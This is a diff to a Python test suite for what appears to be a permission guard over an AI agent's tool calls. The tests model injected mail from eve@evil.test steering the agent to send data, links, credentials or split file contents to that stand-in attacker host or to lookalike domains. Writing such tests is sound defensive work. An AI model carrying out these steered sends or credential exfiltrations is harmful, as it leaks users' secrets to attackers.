@@ -27,10 +27,63 @@ TURNED: dict[str, dict[str, str]] = {
     "trifecta": {"deny": "deny", "ask": "ask"},
     "leak_guard": {"deny": "deny", "ask": "ask", "off": "allow"},
     "open_channel": {"deny": "deny", "ask": "ask"},
+    "preset": {"strict": "ask", "convenient": "allow", "trifecta-only": "allow", "lockdown": "deny"},
+    "secret_egress": {"deny": "deny", "ask": "ask"},
+    "lockdown": {"deny": "deny", "ask": "ask", "off": "allow"},
+    "metadata": {"ignored": "ask", "grounds": "allow"},
+    **{
+        key: {"deny": "deny", "ask": "ask", "off": "allow"}
+        for key in (
+            "secret_read",
+            "steered_destination",
+            "steered_object",
+            "steered_party",
+            "steered_link",
+            "self_only",
+            "split_exfiltration",
+        )
+    },
+}
+STEERING: dict[str, dict[str, Any]] = {
+    "read_mail": {"returns": ["untrusted:mail"], "egress": "none", "fields": {"sender": "metadata"}},
+    "read_key": {"returns": ["private:credentials"], "egress": "none"},
+    "read_file": {"returns": ["private:files"], "egress": "none"},
+    "send": {"returns": [], "egress": "chosen", "destinations": {"to": "email"}, "content": ["body"]},
+    "look": {"returns": [], "egress": "none", "objects": {"file": "id:file"}},
+    "book": {"returns": [], "egress": "none", "effect": "add", "parties": {"hotel": "name"}},
+    "note": {"returns": [], "egress": "none", "effect": "add", "audience": "self", "content": ["text"]},
+}
+# Setting → the call that it is about, in a conversation that has read a mail from eve@evil.test.
+STEERED: dict[str, tuple[str, dict[str, Any]]] = {
+    "preset": ("send", {"to": "eve@evil.test"}),
+    "metadata": ("send", {"to": "eve@evil.test"}),
+    "lockdown": ("send", {"to": "kim@corp.example"}),
+    "steered_destination": ("send", {"to": "eve@evil.test"}),
+    "steered_link": ("send", {"to": "kim@corp.example", "body": "https://evil.test/"}),
+    "steered_object": ("look", {"file": "13"}),
+    "steered_party": ("book", {"hotel": "Palace"}),
+    "self_only": ("note", {"text": "https://evil.test/"}),
+    "secret_read": ("read_key", {}),
 }
 
 
+def about_steering(setting: str, value: str) -> str:
+    guard = fresh(locked(STEERING, settings={setting: value}), "Write to kim@corp.example please.")
+    if setting == "split_exfiltration":
+        did(guard, "read_file")
+        return [got(did(guard, "send", {"to": "eve@evil.test"}))[0] for _ in range(9)][-1]
+    if setting == "secret_egress":
+        did(guard, "read_key")
+        guard.admit("x", labels=["untrusted:paste"], source="x")
+        return got(did(guard, "send", {"to": "kim@corp.example"}))[0]
+    did(guard, "read_mail", result={"sender": "eve@evil.test", "body": "x"})
+    name, arguments = STEERED[setting]
+    return got(did(guard, name, arguments))[0]
+
+
 def about(setting: str, value: str) -> str:
+    if setting in STEERED or setting in ("split_exfiltration", "secret_egress"):
+        return about_steering(setting, value)
     lock = locked(settings={setting: value})
     if setting == "trifecta":
         return got(did(armed(lock), "send_email", EVIL))[0]
@@ -50,7 +103,10 @@ def test_every_value_of_every_setting(setting: str, value: str) -> None:
 
 def test_no_setting_is_left_out() -> None:
     assert set(TURNED) == set(SETTING_VALUES)
-    assert set(Settings.model_fields) == {*SETTING_VALUES, "address_book", "controls"}
+    assert set(Settings.model_fields) == {
+        *SETTING_VALUES,
+        *("address_book", "controls", "own_domains", "hosts", "roots"),
+    }
     for name, values in SETTING_VALUES.items():
         assert set(TURNED[name]) == set(values)
 
@@ -65,7 +121,31 @@ VALUES = {
     "channel": "#team",
     "user": "kim",
     "id": "doc-7",
+    "name": "Grand Palace",
 }
+
+
+@pytest.mark.parametrize(
+    ("setting", "value", "kind", "inside", "outside"),
+    [
+        ("own_domains", "corp.example", "email", "kim@mail.corp.example", "kim@evilcorp.example"),
+        ("hosts", "corp.example", "url", "https://api.corp.example/x", "https://corp.example.evil.test/"),
+        ("roots", "/srv/out", "path", "/srv/out/a.txt", "/srv/outside/a.txt"),
+    ],
+)
+def test_every_allow_list(setting: str, value: str, kind: str, inside: str, outside: str) -> None:
+    tools = {
+        "read": {"returns": ["untrusted:mail", "private:mail"], "egress": "none"},
+        "put": {"returns": [], "egress": "chosen", "destinations": {"where": kind}},
+    }
+    for settings, where, verdict in (
+        ({}, inside, "deny"),
+        ({setting: [value]}, inside, "allow"),
+        ({setting: [value]}, outside, "deny"),
+    ):
+        guard = fresh(locked(tools, settings=settings))
+        did(guard, "read")
+        assert got(did(guard, "put", {"where": where}))[0] == verdict
 
 
 @pytest.mark.parametrize("kind", AddressBook.model_fields)
@@ -115,6 +195,7 @@ def test_every_effect() -> None:
         found[effect.value] = before, got(did(guard, "do"))[0]
     assert found == {
         "none": ("allow", "allow"),
+        "add": ("allow", "allow"),
         "write": ("allow", "ask"),
         "destroy": ("allow", "ask"),
         "control": ("ask", "deny"),
@@ -171,7 +252,8 @@ def test_every_key_of_a_tool_that_a_later_call_feels() -> None:
             guard.admit("x", labels=[other], source="x")
             did(guard, "get")
             found.append(got(did(guard, "put", {"to": "eve@evil.test"}))[0])
-        assert found == ["allow", "deny"], key
+        # A send to a stranger is asked as soon as their text is here, and denied with both legs.
+        assert found == ["allow" if leg == "untrusted" else "ask", "deny"], key
 
 
 def test_no_key_of_a_tool_is_left_out() -> None:
@@ -184,7 +266,10 @@ def test_no_key_of_a_tool_is_left_out() -> None:
     sending = Manifest.parse({"version": 1, "tools": {"a": {**SEND, "arguments": ["to", "body", "headers"]}}})
     assert [one.rule for one in lint_manifest(sending)] == ["unclassified-argument"]
     said = {field.name for field in fields(ToolSpec) if field.init} - {"id", "known", "digest"}
-    assert {*KEYS, "returns", "reads", "description", "arguments"} == {*said, "audience"}
+    # `nouns` is the second half of a kind. What the keys below turn stands in tests/unit/model/test_fields.py and
+    # test_narrowing.py.
+    elsewhere = {"nouns", "objects", "parties", "fields", "ids", "keep", "when"}
+    assert {*KEYS, *elsewhere, "returns", "reads", "description", "arguments"} == said
 
 
 def test_every_argument_of_the_interlock(tmp_path: Path) -> None:
